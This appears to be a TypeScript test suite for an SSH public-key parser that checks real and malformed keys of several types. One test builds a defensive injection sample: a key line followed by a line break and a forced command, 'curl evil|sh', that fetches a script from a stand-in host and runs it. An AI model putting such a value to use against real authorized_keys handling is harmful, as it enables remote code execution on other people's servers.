import { generateKeyPairSync } from 'node:crypto';
import * as sshpk from 'sshpk';
import { md5Fingerprint, parsePublicKey } from './public-key';

function field(b: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(b.length);
  return Buffer.concat([length, b]);
}

/** An OpenSSH line for a fresh node:crypto key (converted by sshpk, which the parser does not trust blindly). */
function openssh(kind: 'ed25519' | 'ec' | 'rsa', option?: string | number): string {
  const options =
    kind === 'ec' ? { namedCurve: String(option) } : kind === 'rsa' ? { modulusLength: Number(option) } : undefined;
  const pem = (generateKeyPairSync as any)(kind, options).publicKey.export({ format: 'pem', type: 'spki' });
  const [type, blob] = sshpk.parseKey(pem, 'pem').toString('ssh').split(' ');
  return `${type} ${blob} me@host`;
}

function body(line: string): Buffer {
  return Buffer.from(line.split(' ')[1], 'base64');
}

function withBody(line: string, blob: Buffer): string {
  const [type, , ...rest] = line.split(' ');
  return [type, blob.toString('base64'), ...rest].join(' ');
}

/** A FIDO security-key line wrapping a plain key's fields (OpenSSH PROTOCOL.u2f). */
function securityKey(plain: string, skType: string, application = 'ssh:'): string {
  const blob = body(plain);
  const fields: Buffer[] = [];
  for (let offset = 0; offset < blob.length;) {
    const length = blob.readUInt32BE(offset);
    fields.push(blob.subarray(offset + 4, offset + 4 + length));
    offset += 4 + length;
  }
  const sk = Buffer.concat([
    field(Buffer.from(skType)),
    ...fields.slice(1).map(field),
    field(Buffer.from(application)),
  ]);
  return `${skType} ${sk.toString('base64')} me@host`;
}

const ED25519 = openssh('ed25519');
const VALID: Array<[string, string]> = [
  ['ed25519', ED25519],
  ['ecdsa nistp256', openssh('ec', 'P-256')],
  ['ecdsa nistp384', openssh('ec', 'P-384')],
  ['ecdsa nistp521', openssh('ec', 'P-521')],
  ['rsa 2048', openssh('rsa', 2048)],
  ['rsa 3072', openssh('rsa', 3072)],
  ['sk-ed25519', securityKey(ED25519, 'sk-ssh-ed25519@openssh.com')],
  ['sk-ecdsa nistp256', securityKey(openssh('ec', 'P-256'), 'sk-ecdsa-sha2-nistp256@openssh.com')],
];

describe('parsePublicKey (sshpk)', () => {
  it.each(VALID)('accepts a real %s key and fingerprints its wire format', (_label, line) => {
    const parsed = parsePublicKey(line)!;
    expect(parsed).not.toBeNull();
    expect(parsed.type).toBe(line.split(' ')[0]);
    expect(parsed.comment).toBe('me@host');
    expect(parsed.blob.equals(body(line))).toBe(true);
    expect(md5Fingerprint(parsed)).toMatch(/^([0-9a-f]{2}:){15}[0-9a-f]{2}$/);
  });

  // The kind: a value that is more than one authorized_keys line (each break would start a key of its own).
  it.each(['\n', '\r', '\r\n', '\u0000', '\u000b'])('refuses a key followed by %j and more', (brk) => {
    for (const [, line] of VALID) {
      expect(parsePublicKey(`${line}${brk}command="curl evil|sh" ${line}`)).toBeNull();
      expect(parsePublicKey(`${line}${brk}`.trimEnd() + brk + 'x')).toBeNull();
    }
  });

  it('accepts a key line that ends with one line break (as pasted from a .pub file)', () => {
    for (const [, line] of VALID) expect(parsePublicKey(`${line}\n`)).not.toBeNull();
  });

  // The kind: a body that does not decode completely for its type. Every member, every length cut.
  it.each(VALID)('refuses a %s key whose body is cut short by any number of bytes', (_label, line) => {
    const blob = body(line);
    const accepted = [];
    for (let cut = 1; cut < blob.length; cut++) {
      if (parsePublicKey(withBody(line, blob.subarray(0, blob.length - cut)))) accepted.push(cut);
    }
    expect(accepted).toEqual([]);
  });

  it.each(VALID)('refuses a %s key with bytes left over after the key', (_label, line) => {
    expect(parsePublicKey(withBody(line, Buffer.concat([body(line), Buffer.from([0, 0, 0, 1, 7])])))).toBeNull();
    expect(parsePublicKey(withBody(line, Buffer.concat([body(line), Buffer.from([0])])))).toBeNull();
  });

  it('refuses an ECDSA point that is not on its curve', () => {
    const line = openssh('ec', 'P-256');
    const blob = Buffer.from(body(line));
    blob[blob.length - 1] ^= 0x01;
    expect(parsePublicKey(withBody(line, blob))).toBeNull();
  });

  it('refuses RSA keys with a modulus below 2048 bits', () => {
    expect(parsePublicKey(openssh('rsa', 1024))).toBeNull();
  });

  it('refuses an ECDSA key labelled with another curve, and a body of another type', () => {
    const p256 = openssh('ec', 'P-256');
    expect(parsePublicKey(p256.replace('ecdsa-sha2-nistp256', 'ecdsa-sha2-nistp384'))).toBeNull();
    expect(parsePublicKey(`ssh-rsa ${ED25519.split(' ')[1]}`)).toBeNull();
  });

  it('refuses a security key without an application, and one whose key part is cut', () => {
    expect(parsePublicKey(securityKey(ED25519, 'sk-ssh-ed25519@openssh.com', ''))).toBeNull();
    const sk = securityKey(ED25519, 'sk-ssh-ed25519@openssh.com');
    expect(parsePublicKey(withBody(sk, body(sk).subarray(0, 30)))).toBeNull();
  });

  it.each([
    ['empty', ''],
    ['no body', 'ssh-rsa'],
    ['unknown type', 'ssh-foo AAAAB3NzaC1yc2E='],
    ['a DSA key (dropped by OpenSSH)', 'ssh-dss AAAAB3NzaC1kc3MAAACBAP8='],
    ['not base64', 'ssh-ed25519 !!!notbase64'],
    ['base64 without its padding', ED25519.split(' ').slice(0, 2).join(' ').replace(/=+$/, '') + 'A'],
    ['truncated body', 'ssh-ed25519 AAAA'],
    ['a PEM key', '-----BEGIN PUBLIC KEY----- MCowBQYDK2VwAyEA -----END PUBLIC KEY-----'],
  ])('rejects %s', (_label, text) => {
    expect(parsePublicKey(text)).toBeNull();
  });
});
